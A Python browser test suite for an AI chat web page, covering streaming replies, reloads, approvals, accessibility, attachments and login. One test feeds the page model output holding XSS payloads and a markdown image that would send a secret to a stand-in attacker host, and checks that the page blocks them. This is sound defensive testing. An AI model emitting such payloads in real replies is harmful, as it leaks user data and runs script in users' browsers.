"""The chat page in a real Chromium."""

import asyncio
import json
from pathlib import Path

import pytest

from gateway.files import FILE_MAX_BYTES
from gateway.platforms import Button, Outbound
from gateway.store import Store
from tests.gateway.web.world import World, served
from tests.harness.browser import Browser, Page, Visitor

pytestmark = pytest.mark.browser

READY = "!document.querySelector('#welcome').hidden"


async def opened(visitor: Visitor, world: World, *, width: int = 1440, height: int = 900) -> Page:
    page = await visitor.page(f"{world.url}/chat", width=width, height=height)
    await page.until(READY)
    return page


async def say(page: Page, text: str) -> None:
    await page.evaluate("document.querySelector('#message').focus()")
    await page.type(text)
    await page.press("Enter")


async def test_a_reply_streams_in_with_its_steps(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await say(page, "What is on the page?")
    event = await world.worker.take()
    await world.worker.skill(event, "web-access")
    await world.worker.tool(event, "web_fetch", failed=None)
    await world.worker.show(event, "")
    await page.until_shown("Running web_fetch")
    await world.worker.show(event, "Three **poi")
    await page.until_shown("Three **poi")
    await world.worker.show(event, "Three **points**: one")
    await page.until("document.querySelector('.markdown strong')?.textContent === 'points'")
    assert await page.texts(".step") == ["Loaded the skill web-access", "Running web_fetch"]
    await world.worker.reply(event, "Three **points**: one, two, three.")
    await page.until("!document.querySelector('[aria-busy=true]')")
    assert await page.texts(".reply .markdown") == ["Three points: one, two, three."]
    assert await page.texts(".bubble") == ["What is on the page?"]


async def test_what_is_said_in_the_midst_of_a_turn_shows_no_step_twice(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await say(page, "Write that down")
    event = await world.worker.take()
    await world.worker.skill(event, "web-access")
    await world.worker.record(event, "card", text="A note waits.", turn="t")
    await world.worker.send(event, "A note waits.", notice=True, key="card")
    await page.until_shown("A note waits.")
    await world.worker.tool(event, "web_fetch", failed=None)
    await world.worker.show(event, "")
    await page.until_shown("Running web_fetch")
    assert await page.texts(".step") == ["Loaded the skill web-access", "Running web_fetch"]
    await world.worker.reply(event, "Done.")
    await page.until("!document.querySelector('[aria-busy=true]') && !document.querySelector('.working')")
    assert await page.texts(".reply .markdown") == ["A note waits.", "Done."]


@pytest.mark.parametrize("width", [390, 1440])
async def test_a_cards_buttons_say_what_they_carry(world: World, visitor: Visitor, width: int) -> None:
    page = await opened(visitor, world, width=width)
    await say(page, "Write that down")
    event = await world.worker.take()
    card = Outbound(
        "**May I do this? ABCDEF**",
        is_notice=True,
        buttons=(Button("Allow", "approve ABCDEF", "primary"), Button("w" * 40, "x")),
    )
    await world.worker.record(event, "asked", turn="t", code="ABCDEF", kind="approval", until_ms=9, text="?")
    buttons = [[one.label, one.command, one.style] for one in card.buttons]
    await world.worker.record(event, "card", text=card.markdown, buttons=buttons, turn="t")
    await world.worker.send(event, card.markdown, notice=True, key="card", buttons=card.buttons)
    await page.until("document.querySelectorAll('.choices').length === 1")
    await page.until_shown("It waits for somebody's word")
    assert not await page.texts(".working .dots")
    assert await page.texts(".choices button") == ["Allow", "w" * 40]
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    about = "document.querySelector('.choices button').getAttribute('aria-describedby')"
    assert "May I do this?" in await page.evaluate(f"document.getElementById({about}).textContent")
    await page.evaluate("document.querySelector('.choices button').focus()")
    await page.press("Enter")
    said = await world.worker.take()
    assert said.text == "/approve ABCDEF"
    await world.worker.record(event, "decided", code="ABCDEF", word="yes", turn="t")
    await world.worker.record(event, "card", text="ABCDEF: yes.", of=said.dedupe_keys[0], turn="t")
    await world.worker.send(event, "ABCDEF: yes.", notice=True, key="word")
    await page.until_shown("ABCDEF: yes.")
    await page.until_shown("Working on it")
    assert await page.texts(".choices button") == ["w" * 40]
    assert await page.evaluate("document.activeElement.id") == "message"


async def test_the_rehearsal_says_so_beside_each_of_its_replies(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await say(page, "hello")
    event = await world.worker.take()
    await world.worker.show(event, "Hel")
    await page.until_shown("Hel")
    assert await page.texts(".reply .chip") == ["rehearsal: scripted, not a model"]
    await world.worker.reply(event, "Hello.")
    await world.worker.record(event, "reply", text="What a command led to.", command=True, turn="t")
    await world.worker.record(event, "reply", text="A notice.", notice=True, turn="t")
    await page.reload()
    await page.until_shown("A notice.")
    assert await page.texts(".reply .chip") == ["rehearsal: scripted, not a model"]
    assert await page.texts("header .chip") == ["rehearsal: scripted, not a model"]


async def test_a_reload_keeps_the_conversation_and_goes_on(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await say(page, "one")
    await world.converse("one", "the first reply")
    await page.until_shown("the first reply")
    await say(page, "two")
    event = await world.worker.take()
    await world.worker.show(event, "half of")
    await page.reload()
    await page.until_shown("half of")
    await world.worker.reply(event, "half of it was shown", key="key 2")
    await page.until_shown("half of it was shown")
    assert await page.texts(".bubble") == ["one", "two"]
    assert await page.texts(".reply .markdown") == ["the first reply", "half of it was shown"]


async def test_a_message_that_waits_survives_a_reload(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await say(page, "nobody has taken this")
    await page.until_shown("Working on it")
    await page.reload()
    await page.until_shown("nobody has taken this")
    await page.until_shown("Working on it")
    assert await page.texts(".note") == []


async def test_two_tabs_show_the_same(world: World, visitor: Visitor) -> None:
    first = await opened(visitor, world)
    await say(first, "hello")
    second = await visitor.page(f"{world.url}/chat")
    await second.until_shown("hello")
    event = await world.worker.take()
    for text in ("a", "ab", "abc"):
        await world.worker.show(event, text)
    for page in (first, second):
        await page.until("document.querySelector('.markdown')?.textContent === 'abc'")
    await world.worker.reply(event, "abcd")
    for page in (first, second):
        await page.until("!document.querySelector('[aria-busy=true]')")
        assert await page.texts(".reply .markdown") == ["abcd"]


async def test_a_reply_that_is_sent_twice_is_shown_once(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await say(page, "hello")
    event = await world.worker.take()
    await world.worker.reply(event, "only once")
    await world.worker.send(event, "only once")
    await world.worker.send(event, "a sign that all came", key="key 2")
    await page.until_shown("a sign that all came")
    assert await page.texts(".reply .markdown") == ["only once", "a sign that all came"]


async def test_a_snapshot_that_comes_after_the_reply_is_not_shown(world: World, visitor: Visitor) -> None:
    """A worker that was taken for dead may still show something."""
    page = await opened(visitor, world)
    await say(page, "hello")
    event = await world.worker.take()
    await world.worker.reply(event, "the end")
    await page.until_shown("the end")
    await page.evaluate(
        "void new MutationObserver(() => { window.ever = (window.ever ?? '') + document.querySelector('main').innerText; })"
        ".observe(document.querySelector('#messages'), { childList: true, subtree: true, characterData: true })"
    )
    await world.worker.show(event, "a ghost")
    await world.worker.send(event, "a sign that all came", key="key 2")
    await page.until_shown("a sign that all came")
    assert await page.texts(".reply .markdown") == ["the end", "a sign that all came"]
    assert "a ghost" not in await page.evaluate("window.ever")


async def test_a_gateway_that_starts_again_in_the_middle_loses_nothing(
    store: Store, redis_url: str, tmp_path: Path, visitor: Visitor
) -> None:
    pieces = [f"piece {n}" for n in range(20)]
    async with served(store, redis_url, tmp_path) as world:
        page = await opened(visitor, world)
        await say(page, "count")
        event = await world.worker.take()
        for n in range(8):
            await world.worker.show(event, "\n\n".join(pieces[: n + 1]))
        await page.until_shown("piece 7")
    await page.until("!document.querySelector('#offline').hidden")
    for n in range(8, 20):
        await world.worker.show(event, "\n\n".join(pieces[: n + 1]))
    await world.worker.reply(event, "\n\n".join(pieces))
    async with served(store, redis_url, tmp_path, port=int(world.url.rpartition(":")[2])):
        await page.until_shown("piece 19")
        await page.until("document.querySelector('#offline').hidden")
        assert await page.texts(".reply .markdown p") == pieces
        assert len(await page.texts(".reply")) == 1
    page.errors.clear()  # the console tells of the requests that failed meanwhile


async def test_who_was_away_for_long_reads_the_records(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await say(page, "hello")
    event = await world.worker.take()
    await world.worker.show(event, "half")
    await page.until_shown("half")
    await page.evaluate("Object.defineProperty(document, 'hidden', {value: true, configurable: true})")
    await page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    await world.worker.reply(event, "the whole")
    await world.store.redis.delete(world.store.layout.key(event.conversation.id, "feed"))
    assert "whole" not in await page.evaluate("document.body.innerText")
    await page.evaluate("Object.defineProperty(document, 'hidden', {value: false})")
    await page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    await page.until_shown("the whole")
    assert await page.texts(".reply .markdown") == ["the whole"]


async def test_a_message_that_could_not_be_sent_can_be_sent_again(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await page.cut_off(is_cut_off=True)
    await say(page, "hear me")
    await page.until_shown("Not sent")
    await page.cut_off(is_cut_off=False)
    await page.click(".again")
    await world.converse("hear me", "heard at last")
    await page.until_shown("heard at last")
    assert await page.texts(".bubble") == ["hear me"]
    page.errors.clear()


async def test_a_message_too_many_is_shown_as_one_that_was_not_read_and_why(
    store: Store, redis_url: str, tmp_path: Path, visitor: Visitor
) -> None:
    (tmp_path / "profiles").mkdir()
    (tmp_path / "profiles/default.yaml").write_text("rate: {person_per_minute: 1}\n")
    async with served(store, redis_url, tmp_path) as world:
        page = await opened(visitor, world)
        await say(page, "one")
        await page.until("document.querySelectorAll('.bubble').length === 1")
        for number, said in enumerate(("two", "three"), 1):
            await say(page, said)
            await page.until(f"document.querySelectorAll('.note.failed').length === {number}")
        notes = await page.texts(".note.failed")
        assert all(
            one.startswith("These are too many messages in a minute, so this one was not read.") for one in notes
        )
        assert "Try again" in notes[0]
        page.errors.clear()  # a browser tells of every answer that refuses


async def test_a_message_cut_off_by_a_reload_is_sent_by_the_next_page(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await page.cut_off(is_cut_off=True)
    await say(page, "hear me")
    await page.until_shown("Not sent")
    await page.cut_off(is_cut_off=False)
    page.errors.clear()
    await page.reload()
    await world.converse("hear me", "heard at last")
    await page.until_shown("heard at last")
    assert await page.texts(".bubble") == ["hear me"]


async def test_stop_is_offered_while_it_runs(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    assert await page.evaluate("document.querySelector('#stop').hidden")
    await say(page, "a long story")
    event = await world.worker.take()
    await world.worker.show(event, "Once upon")
    await page.until_shown("Once upon")
    await page.click("#stop")
    control = world.store.layout.key(event.conversation.id, "control")
    async with asyncio.timeout(30):
        while not await world.store.redis.llen(control):
            await asyncio.sleep(0.01)
    [stop] = await world.store.redis.lrange(control, 0, -1)
    assert json.loads(stop)["text"] == "/stop"
    await world.store.redis.delete(control)
    await world.worker.record(event, "event", event=json.loads(stop), turn="t")
    await world.worker.reply(event, "Stopped.", notice=True)
    await page.until_shown("Stopped.")
    assert await page.evaluate("document.querySelector('#stop').hidden")
    assert await page.texts(".bubble") == ["a long story", "/stop"]
    assert await page.texts(".notice .markdown") == ["Stopped."]


async def test_a_new_conversation_begins_empty_and_the_old_one_stays_in_the_list(
    world: World, visitor: Visitor
) -> None:
    page = await opened(visitor, world)
    await say(page, "the old one")
    await world.converse("the old one", "an old reply")
    await page.until_shown("an old reply")
    await page.click("#new")
    await page.until(READY)
    assert await page.texts(".reply") == []
    await say(page, "the new one")
    await world.converse("the new one", "a new reply")
    await page.until_shown("a new reply")
    assert await page.texts("#conversations a") == ["the new one", "the old one"]
    await page.click("#conversations li:last-child a")
    await page.until_shown("an old reply")
    assert await page.texts(".reply .markdown") == ["an old reply"]


async def test_another_browser_with_the_same_address_sees_nothing(world: World, browser: Browser) -> None:
    mine = await opened(await browser.visitor(), world)
    await say(mine, "my secret")
    event = await world.converse("my secret", "kept")
    await mine.until_shown("kept")
    address = await mine.evaluate("location.href")
    theirs = await (await browser.visitor()).page(address)
    await theirs.until(READY)
    assert await theirs.evaluate("location.hash") == await mine.evaluate("location.hash")
    await world.worker.show(event, "more secrets")
    await say(theirs, "what did I say before?")
    other = await world.converse("what did I say before?", "nothing")
    await theirs.until_shown("nothing")
    assert "secret" not in await theirs.evaluate("document.body.innerText")
    assert other.conversation.id != event.conversation.id


async def test_shift_enter_and_an_input_method_do_not_send(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await page.type("first line")
    await page.press("Enter", shift=True)
    await page.type("second line")
    await page.evaluate(
        "document.querySelector('#message').dispatchEvent("
        "new KeyboardEvent('keydown', {key: 'Enter', isComposing: true, bubbles: true, cancelable: true}))"
    )
    assert await page.texts(".bubble") == []
    await page.press("Enter")
    await world.converse("first line\nsecond line", "two lines")
    await page.until_shown("two lines")


async def test_what_was_accepted_is_never_sent_again(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    redis, all_keys = world.store.redis, f"{world.store.layout.prefix}:*"
    await say(page, "/stop")
    kept = "Object.keys(sessionStorage).filter((key) => key.includes('pending'))"
    await page.until(f"document.querySelector('.bubble') && !{kept}.length")
    [control] = [key async for key in redis.scan_iter(match=world.store.layout.key("*", "control"))]
    await page.reload()
    await page.until_shown("/stop")
    assert await redis.llen(control) == 1
    assert await page.texts(".bubble") == ["/stop"]
    await redis.delete(*[key async for key in redis.scan_iter(match=all_keys)])  # days go by: all of it is forgotten
    await page.reload()
    await page.until(READY)
    assert not await redis.exists(control)


async def test_what_may_not_have_arrived_long_ago_is_sent_only_when_somebody_says_so(
    world: World, visitor: Visitor
) -> None:
    page = await opened(visitor, world)
    await page.evaluate("""sessionStorage.setItem(`deskmate.pending.${location.hash.slice(1)}`, JSON.stringify([
      {id: "old", text: "order the cake", files: [], at: Date.now() - 3 * 86_400_000},
      {id: "new", text: "and candles", files: [], at: Date.now() - 1_000},
    ]))""")
    await page.reload()
    event = await world.worker.take()
    assert event.text == "and candles"
    await world.worker.reply(event, "Candles it is.")
    await page.until_shown("Candles it is.")
    assert await page.texts(".note.failed button") == ["Try again"]
    await page.click(".note.failed button")
    await world.converse("order the cake", "A cake as well.")
    await page.until_shown("A cake as well.")


async def test_a_draft_survives_a_reload(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await page.type("not yet")
    await page.reload()
    await page.until("document.querySelector('#message').value === 'not yet'")


async def test_everything_is_reached_by_keyboard_on_a_phones_width(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world, width=390, height=844)
    reached = []
    for _ in range(4):
        await page.press("Tab")
        reached.append(await page.evaluate("document.activeElement.id || document.activeElement.className"))
    assert reached == ["skip", "menu", "scroll", "message"]
    await page.evaluate("document.querySelector('#menu').focus()")
    await page.press("Enter")
    await page.until("document.activeElement.id === 'new'")
    await page.press("Escape")
    await page.until("document.activeElement.id === 'menu'")
    assert await page.evaluate("document.querySelector('#side').inert")


@pytest.mark.parametrize("width", [900, 1440])
async def test_a_list_in_columns_stands_straight_and_needs_no_scrolling(
    world: World, visitor: Visitor, width: int
) -> None:
    rows = ["   id            tier     summary", "●  web-access    builtin  one", "✗  生成日报      org      two"]
    rows.append("○  pr-checklist  channel  " + "s" * 54)
    page = await opened(visitor, world, width=width)
    await say(page, "/skill list")
    await world.converse("/skill list", "```\n" + "\n".join(rows) + "\n```")
    await page.until("document.querySelector('pre.columns')")
    at = """(() => {
      const pre = document.querySelector('pre.columns'), found = {};
      const walk = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);
      for (let text; (text = walk.nextNode()); ) {
        for (const word of ['tier', 'builtin', 'org ', 'channel', 'id ', 'web-']) {
          const begin = text.data.indexOf(word);
          if (begin < 0) continue;
          const range = document.createRange();
          range.setStart(text, begin);
          range.setEnd(text, begin + 1);
          found[word.trim()] = range.getBoundingClientRect().left;
        }
      }
      return { found, scrolls: pre.scrollWidth > pre.clientWidth };
    })()"""
    seen = await page.evaluate(at)
    left = seen["found"]
    for word in ("builtin", "org", "channel"):
        assert left[word] == pytest.approx(left["tier"], abs=1), left
    assert left["web-"] == pytest.approx(left["id"], abs=1)
    assert not seen["scrolls"]


@pytest.mark.parametrize("width", [390, 1440])
async def test_nothing_is_wider_than_the_page(world: World, visitor: Visitor, width: int) -> None:
    page = await opened(visitor, world, width=width, height=844)
    await say(page, "x" * 400)
    wide = "| a | b |\n|---|---|\n| " + "w" * 300 + " | b |\n\n```\n" + "c" * 300 + "\n```\n\n" + "p" * 300
    await world.converse("x" * 400, wide)
    await page.until("document.querySelector('pre')")
    assert await page.evaluate("document.documentElement.scrollWidth") == width
    assert await page.evaluate("document.querySelector('#scroll').scrollWidth <= innerWidth")


async def test_a_screen_reader_hears_names_and_the_finished_reply(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await say(page, "hello")
    event = await world.worker.take()
    await world.worker.show(event, "Goo")
    await page.until_shown("Goo")
    assert await page.evaluate("document.querySelector('#said').textContent") == ""
    await world.worker.reply(event, "**Good** day")
    await page.until("document.querySelector('#said').textContent === 'Good day'")
    nodes = await page.accessibility()
    named = {(node["role"], node["name"]) for node in nodes}
    assert {
        ("textbox", "Your message"),
        ("button", "Send"),
        ("button", "New conversation"),
        ("navigation", "Conversations"),
        ("heading", "deskmate"),
    } <= named
    assert [node for node in nodes if node["role"] in {"button", "link", "textbox"} and not node["name"]] == []
    assert any(node.get("live") == "polite" for node in nodes)


CONTRASTS = """
(() => {
  const parse = (c) => { const n = c.match(/[\\d.]+/g).map(Number); return [n[0], n[1], n[2], n[3] ?? 1]; };
  const light = (c) => c.slice(0, 3).map((v) => v / 255)
    .map((v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4))
    .reduce((sum, v, at) => sum + v * [0.2126, 0.7152, 0.0722][at], 0);
  const ground = (n) => { for (; n; n = n.parentElement) { const c = parse(getComputedStyle(n).backgroundColor); if (c[3] === 1) return c; } };
  const low = [];
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let text; (text = texts.nextNode()); ) {
    const n = text.parentElement;
    if (!text.data.trim() || !n.checkVisibility({ visibilityProperty: true }) || n.closest(".unseen, script")) continue;
    const [a, b] = [light(parse(getComputedStyle(n).color)), light(ground(n))].sort((x, y) => y - x);
    if ((a + 0.05) / (b + 0.05) < 4.5) low.push(`${n.className || n.tagName}: ${text.data}`);
  }
  return low;
})()
"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_all_text_stands_out_from_its_ground(world: World, visitor: Visitor, scheme: str) -> None:
    page = await opened(visitor, world)
    await page.prefer(scheme="dark" if scheme == "dark" else "light")
    await say(page, "show everything")
    event = await world.worker.take()
    await world.worker.skill(event, "web-access")
    await world.worker.tool(event, "web_fetch", failed=True)
    await world.worker.reply(event, "# A\n\n> b [c](https://d.test)\n\n`e`\n\n```\nf\n```\n\n|g|\n|-|\n|h|")
    await world.worker.record(event, "reply", text="`code` in a notice", notice=True, turn="t")
    await say(page, "another")
    await page.until_shown("in a notice")
    await page.until_shown("Working on it")
    await page.drop("#scroll", "zahlen.csv", "1;2")
    await page.drop("#scroll", "leer.csv", "")
    await page.until("document.querySelector('#attached .ready') && document.querySelector('#attached .failed')")
    assert await page.evaluate(CONTRASTS) == []
    ground = await page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (int(ground[4:].split(",")[0]) < 60) == (scheme == "dark")


async def test_the_page_speaks_chinese_to_who_asks_for_it(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await page.speak("zh-CN,zh;q=0.9")
    await page.reload()
    await page.until_shown("有什么可以帮你？")
    assert await page.evaluate("document.documentElement.lang") == "zh-Hans"
    await say(page, "你好")
    event = await world.worker.take()
    assert event.actor.language == "zh-CN"
    await world.worker.tool(event, "web_fetch")
    await world.worker.reply(event, "你好！")
    await page.until_shown("你好！")
    shown = await page.evaluate("document.body.innerText")
    assert not set(shown.split()) & {"Conversations", "Send", "Working", "Ran"}


async def test_what_a_model_says_loads_nothing_and_runs_nothing(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await say(page, "attack")
    bad = (
        "<img src=x onerror=alert(1)> <script>alert(1)</script> ![a](https://attacker.test/?d=SECRET)\n\n"
        "[a](javascript:alert(1)) [b](data:text/html,x) [https://bank.test](https://evil.test/x)\n\n"
        "![r][r]\n\n[r]: https://attacker.test/r"
    )
    await world.converse("attack", bad)
    await page.until_shown("evil.test")
    body = "document.querySelector('.reply .markdown')"
    assert await page.evaluate(f"{body}.querySelectorAll('img, script, iframe, style, svg').length") == 0
    assert (
        await page.evaluate(f"[...{body}.querySelectorAll('a')].map((a) => a.protocol + a.rel)")
        == ["https:noopener noreferrer nofollow"] * 3
    )
    assert "https://bank.test (evil.test)" in await page.evaluate(f"{body}.innerText")
    assert [url for url in page.requests if not url.startswith(world.url)] == []


async def test_reading_further_up_is_not_disturbed(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await say(page, "long")
    event = await world.worker.take()
    await world.worker.show(event, "\n\n".join(["line"] * 100))
    await page.until("document.querySelectorAll('.markdown p').length === 100")
    box = "document.querySelector('#scroll')"
    assert await page.evaluate(f"{box}.scrollTop > 1000")
    await page.evaluate(f"{box}.scrollTop = 0")
    await page.until("!document.querySelector('#latest').hidden")
    await world.worker.show(event, "\n\n".join(["line"] * 200))
    await page.until("document.querySelectorAll('.markdown p').length === 200")
    assert await page.evaluate(f"{box}.scrollTop") == 0
    await page.click("#latest")
    await page.until("document.querySelector('#latest').hidden")


async def test_who_has_scrolled_up_is_not_taken_back_before_the_page_hears_of_it(
    world: World, visitor: Visitor
) -> None:
    """Browsers tell of it a frame later: a text that grows meanwhile must not win."""
    page = await opened(visitor, world)
    await say(page, "long")
    event = await world.worker.take()
    await world.worker.show(event, "\n\n".join(["line"] * 100))
    await page.until("document.querySelectorAll('.markdown p').length === 100")
    await page.evaluate("document.addEventListener('scroll', (event) => event.stopImmediatePropagation(), true)")
    box = "document.querySelector('#scroll')"
    await page.evaluate(f"{box}.scrollTop = 0")
    await world.worker.show(event, "\n\n".join(["line"] * 200))
    await page.until("document.querySelectorAll('.markdown p').length === 200")
    assert await page.evaluate(f"{box}.scrollTop") == 0


async def test_motion_stops_for_who_does_not_want_it(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await say(page, "hello")
    await page.until("document.querySelector('.dots')")
    await page.prefer(motion="no-preference")
    assert await page.evaluate("document.getAnimations().length") > 0
    await page.prefer(motion="reduce")
    await page.until("document.getAnimations().length === 0")


async def test_with_a_password_the_page_asks_for_it(
    store: Store, redis_url: str, tmp_path: Path, visitor: Visitor
) -> None:
    async with served(store, redis_url, tmp_path, settings=["chat: {password: $SECRET}"], secret="a long one") as world:
        page = await visitor.page(f"{world.url}/chat")
        assert await page.evaluate("location.pathname") == "/chat/login"
        await page.until("document.activeElement.id === 'password'")
        await page.type("a short one")
        await page.press("Enter")
        await page.until_shown("This password is not right.")
        page.errors.clear()  # the console tells of the 403
        await page.until("document.activeElement.id === 'password'")
        await page.type("a long one")
        await page.press("Enter")
        await page.until(READY)
        await say(page, "hello")
        await world.converse("hello", "welcome in")
        await page.until_shown("welcome in")
        await page.click("header form button")
        await page.until("location.pathname === '/chat/login'")
        await page.go("about:blank")  # nothing of the page is under way any more when its server ends


async def test_files_are_chosen_shown_and_sent_with_the_message(world: World, visitor: Visitor, tmp_path: Path) -> None:
    page = await opened(visitor, world)
    for name in ("zahlen.csv", "bild.png"):
        (tmp_path / name).write_bytes(name.encode())
    await page.choose("#files", tmp_path / "zahlen.csv", tmp_path / "bild.png")
    await page.until("document.querySelectorAll('#attached .ready').length === 2")
    assert await page.texts("#attached .name") == ["zahlen.csv", "bild.png"]
    await say(page, "look")
    event = await world.worker.take()
    assert event.text == "look"
    assert [(one.name, one.kind, one.size_bytes) for one in event.attachments] == [
        ("zahlen.csv", "file", 10),
        ("bild.png", "image", 8),
    ]
    assert await world.worker.adapter.download(event.attachments[0], 100) == b"zahlen.csv"
    await world.worker.reply(event, "Seen.")
    await page.until_shown("Seen.")
    assert await page.texts(".person .file") == ["zahlen.csv", "bild.png"]
    assert await page.texts("#attached .file") == []


async def test_a_file_alone_is_a_message_and_survives_a_reload(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await page.drop("#scroll", "gezogen.csv", "1;2")
    await page.until("document.querySelector('#attached .ready')")
    assert await page.evaluate("document.querySelector('#drop').hidden")
    await page.reload()
    await page.until("document.querySelector('#attached .ready')")
    await page.until("!document.querySelector('#send').disabled")
    await page.click("#send")
    event = await world.worker.take()
    assert (event.text, [one.name for one in event.attachments]) == ("", ["gezogen.csv"])
    assert await page.texts(".bubble") == []
    assert await page.texts("#conversations a") == ["gezogen.csv"]


async def test_what_can_not_be_attached_says_why_and_is_not_sent(
    world: World, visitor: Visitor, tmp_path: Path
) -> None:
    page = await opened(visitor, world)
    (tmp_path / "gross.bin").write_bytes(bytes(FILE_MAX_BYTES + 1))
    (tmp_path / "leer.txt").write_bytes(b"")
    await page.choose("#files", tmp_path / "gross.bin", tmp_path / "leer.txt")
    await page.until("document.querySelectorAll('#attached .failed').length === 2")
    assert await page.texts("#attached .name") == [
        "gross.bin: A file may have at most 2 MB.",
        "leer.txt: This file is empty.",
    ]
    await say(page, "is it there?")
    assert await page.evaluate("document.querySelector('#send').disabled")
    assert await page.evaluate("document.querySelector('#message').value") == "is it there?"
    await page.click("#attached button")
    await page.click("#attached button")
    await page.press("Enter")
    assert (await world.worker.take()).attachments == ()


async def test_a_file_is_attached_and_taken_off_by_keyboard_on_a_phone_in_chinese(
    world: World, visitor: Visitor, tmp_path: Path
) -> None:
    page = await opened(visitor, world, width=390, height=844)
    await page.speak("zh-CN,zh;q=0.9")
    await page.reload()
    await page.until(READY)
    for number in range(3):
        (tmp_path / f"一个名字非常长的文件-{'很' * 40}-{number}.csv").write_text("1")
    await page.choose("#files", *sorted(tmp_path.glob("*.csv")))
    await page.until("document.querySelectorAll('#attached .ready').length === 3")
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    await page.evaluate("document.querySelector('#scroll').focus()")
    await page.press("Tab")
    label = await page.evaluate("document.activeElement.ariaLabel")
    assert label.startswith("移除 一个名字非常长的文件")
    for _ in range(3):
        await page.press("Enter")
    await page.until("document.querySelector('#attached').hidden")
    assert await page.evaluate("document.activeElement.id") == "message"
    await page.press("Tab")
    assert await page.evaluate("document.activeElement.ariaLabel") == "添加文件"
    assert await page.evaluate("document.querySelector('#said').textContent.startsWith('已移除')")


async def test_each_conversation_has_its_own_files(world: World, visitor: Visitor) -> None:
    page = await opened(visitor, world)
    await page.drop("#scroll", "erste.csv", "1")
    await page.until("document.querySelector('#attached .ready')")
    first = await page.evaluate("location.hash")
    await page.click("#new")
    assert await page.texts("#attached .file") == []
    await page.evaluate(f"location.hash = {json.dumps(first)}")
    await page.until("document.querySelector('#attached .ready')")
    assert await page.texts("#attached .name") == ["erste.csv"]
